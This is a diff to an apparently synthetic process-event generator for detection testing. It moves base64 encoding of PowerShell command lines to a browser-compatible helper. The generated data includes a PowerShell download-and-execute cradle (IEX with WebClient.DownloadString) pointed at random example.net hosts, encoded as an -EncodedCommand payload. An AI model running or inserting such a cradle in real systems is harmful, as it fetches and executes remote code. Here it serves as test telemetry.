@@ -134,7 +134,7 @@ export function generateProcessEvents(count: number, seed: number, options: Synt
           case 'url':
             return `http://${pick(['cdn', 'update', 'files', 'static'])}${Math.floor(rnd() * 100)}.example.net/${pick(FILES)}`;
           default:
-            return Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://x${hex(4)}.example.net/a')`, 'utf16le').toString('base64');
+            return utf16leBase64(`IEX (New-Object Net.WebClient).DownloadString('http://x${hex(4)}.example.net/a')`);
         }
       });
     const image = fill(t.image);
@@ -175,4 +175,17 @@ export function generateProcessEvents(count: number, seed: number, options: Synt
     });
   }
   return out;
+}
+
+/**
+ * base64 of the UTF-16LE bytes of `text` (PowerShell's -EncodedCommand form), with btoa rather than Buffer so the
+ * main entry runs in a browser. Each UTF-16 code unit is two bytes, low first.
+ */
+function utf16leBase64(text: string): string {
+  let bytes = '';
+  for (let i = 0; i < text.length; i++) {
+    const u = text.charCodeAt(i);
+    bytes += String.fromCharCode(u & 0xff, u >> 8);
+  }
+  return btoa(bytes);
 }
